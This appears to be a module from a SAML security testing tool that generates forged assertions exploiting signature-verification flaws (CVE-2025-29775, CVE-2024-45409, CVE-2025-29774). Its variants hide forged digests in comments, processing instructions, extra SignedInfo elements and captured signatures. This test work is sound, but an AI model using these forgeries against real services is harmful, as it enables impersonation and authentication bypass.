import { createHash } from 'node:crypto'
import { manifestOf } from '../sign/reference.ts'
import type { Facts } from '../step.ts'
import { elementNamed, insertedAt, replacedBy, textOf, without } from './element-text.ts'
import { rewrite, userReplaced } from './rewrite.ts'
import { inResponse } from './wrapping/holder.ts'

/** The message with a forged user, and the signature that should cover it, with the digest that the forged text has. */
interface Forged {
  readonly xml: string
  readonly signedInfo: string
  readonly forgedDigest: string
}

const DIGEST = /(<(?:\w+:)?DigestValue>)([^<]*)/

/** What is signed stands in canonical form, so that its text without the signature is what was digested. */
function forge(xml: string, facts: Facts): Forged {
  const signature = elementNamed(xml, 'Signature')
  const assertion = elementNamed(xml, 'Assertion')
  const inAssertion = assertion.start < signature.start && signature.end < assertion.end
  const forged = userReplaced(xml, facts)
  const covered = textOf(forged, elementNamed(forged, inAssertion ? 'Assertion' : 'Response'))
  const text = without(covered, elementNamed(covered, 'Signature'))
  const signedInfo = textOf(forged, elementNamed(forged, 'SignedInfo'))
  return {
    xml: forged,
    signedInfo,
    forgedDigest: createHash('sha256').update(text).digest('base64'),
  }
}

/** The digest of the forged text stands in a comment before the signed one. @see CVE-2025-29775 */
export const digestInComment = rewrite(
  'the digest of a forged assertion stands in a comment before the signed one',
  (xml, facts) => {
    const forged = forge(xml, facts)
    const signedInfo = forged.signedInfo.replace(DIGEST, `$1<!--${forged.forgedDigest}-->$2`)
    return replacedBy(forged.xml, elementNamed(forged.xml, 'SignedInfo'), signedInfo)
  },
)

/** The SignedInfo that was signed, with another digest put where whoever looks for one may find it. */
const secondDigest = (title: string, put: (signed: string, forged: string) => string) =>
  rewrite(title, (xml, facts) => {
    const forged = forge(xml, facts)
    const signedInfo = forged.signedInfo.replace(
      DIGEST,
      (_, tag: string, digest: string) => tag + put(digest, forged.forgedDigest),
    )
    return replacedBy(forged.xml, elementNamed(forged.xml, 'SignedInfo'), signedInfo)
  })

/** @see CVE-2025-29775 */
export const digestInCommentBehind = secondDigest(
  'the digest of a forged assertion stands in a comment behind the signed one',
  (signed, forged) => `${signed}<!--${forged}-->`,
)

/** @see CVE-2025-29775 */
export const digestInCommentBetween = secondDigest(
  'the digest of a forged assertion stands in a comment between the halves of the signed one',
  (signed, forged) => `${signed.slice(0, 20)}<!--${forged}-->${signed.slice(20)}`,
)

/** @see CVE-2025-29775 */
export const digestInInstruction = secondDigest(
  'the digest of a forged assertion stands in a processing instruction before the signed one',
  (signed, forged) => `<?x ${forged}?>${signed}`,
)

/**
 * The digest of the forged assertion stands in the Response, before every signature.
 * @see CVE-2024-45409
 */
export const digestOutside = (place: keyof typeof inResponse) =>
  rewrite(`the digest of a forged assertion stands in ${PLACES[place]}`, (xml, facts) => {
    const forged = forge(xml, facts)
    const digest = `<ds:DigestValue xmlns:ds="http://www.w3.org/2000/09/xmldsig#">${forged.forgedDigest}</ds:DigestValue>`
    return inResponse[place](forged.xml, digest)
  })
const PLACES = { extensions: 'Extensions', 'status-detail': 'StatusDetail' } as const satisfies Record<
  keyof typeof inResponse,
  string
>

/** The manifest that the signature refers to stands in its Object; it was made of the same text. */
export const manifestInObject = rewrite('the Manifest stands in an Object of the signature', (xml) => {
  const signature = elementNamed(xml, 'Signature')
  const assertion = elementNamed(xml, 'Assertion')
  const inAssertion = assertion.start < signature.start && signature.end < assertion.end
  const covered = textOf(xml, elementNamed(xml, inAssertion ? 'Assertion' : 'Response'))
  const manifest = manifestOf(without(covered, elementNamed(covered, 'Signature')))
  return insertedAt(xml, signature.close, `<ds:Object>${manifest}</ds:Object>`)
})

/**
 * The signature is that of a captured message, whole; the SignedInfo of the forged one stands in an Object behind it.
 * @see CVE-2025-29774
 */
export const signatureOfCaptured = rewrite(
  'the signature is that of a LogoutResponse, and the SignedInfo of a forged assertion stands in its Object',
  (xml, facts) => {
    const [captured] = facts.captured ?? []
    if (captured === undefined) throw new RangeError('no earlier message of the scene was captured')
    const forged = forge(xml, facts)
    const signedInfo = forged.signedInfo.replace(DIGEST, (_, tag: string) => `${tag}${forged.forgedDigest}`)
    const signature = textOf(captured, elementNamed(captured, 'Signature'))
    const end = elementNamed(signature, 'Signature').close
    const both = insertedAt(signature, end, `<ds:Object>${signedInfo}</ds:Object>`)
    return replacedBy(forged.xml, elementNamed(forged.xml, 'Signature'), both)
  },
)

const twoSignedInfos = (title: string, order: (forged: string, signed: string) => string) =>
  rewrite(title, (xml, facts) => {
    const { xml: text, signedInfo, forgedDigest } = forge(xml, facts)
    const second = signedInfo.replace(DIGEST, (_, tag: string) => `${tag}${forgedDigest}`)
    return replacedBy(text, elementNamed(text, 'SignedInfo'), order(second, signedInfo))
  })

/** @see CVE-2025-29774 */
export const forgedSignedInfo = {
  first: twoSignedInfos(
    'a SignedInfo of a forged assertion stands before the signed one',
    (forged, signed) => forged + signed,
  ),
  last: twoSignedInfos(
    'a SignedInfo of a forged assertion stands behind the signed one',
    (forged, signed) => signed + forged,
  ),
} as const

/**
 * Both digests are true: the forged SignedInfo covers the forged assertion, the signed one the original that stands in the
 * same Object. Whoever takes the first Reference below the Signature for what is signed takes the forged one.
 * @see CVE-2025-29774
 */
export const signedInfoInObject = rewrite(
  'a SignedInfo of a forged assertion stands in an Object, with the signed assertion, before the signed SignedInfo',
  (xml, facts) => {
    const span = elementNamed(xml, 'Assertion')
    const signed = textOf(xml, span)
    const signature = textOf(signed, elementNamed(signed, 'Signature'))
    const original = without(signed, elementNamed(signed, 'Signature'))
    const forged = userReplaced(original, facts).replace(/(\sID="[^"]*)"/, '$1-forged"')
    const { start } = elementNamed(signature, 'SignedInfo')
    const signedInfo = textOf(signature, elementNamed(signature, 'SignedInfo'))
      .replace(/(\sURI="[^"]*)"/, '$1-forged"')
      .replace(DIGEST, (_, tag: string) => `${tag}${createHash('sha256').update(forged).digest('base64')}`)
    const object = `<ds:Object>${signedInfo}${original}</ds:Object>`
    const holder = insertedAt(signature, start, object)
    return replacedBy(xml, span, insertedAt(forged, elementNamed(forged, 'Issuer').end, holder))
  },
)
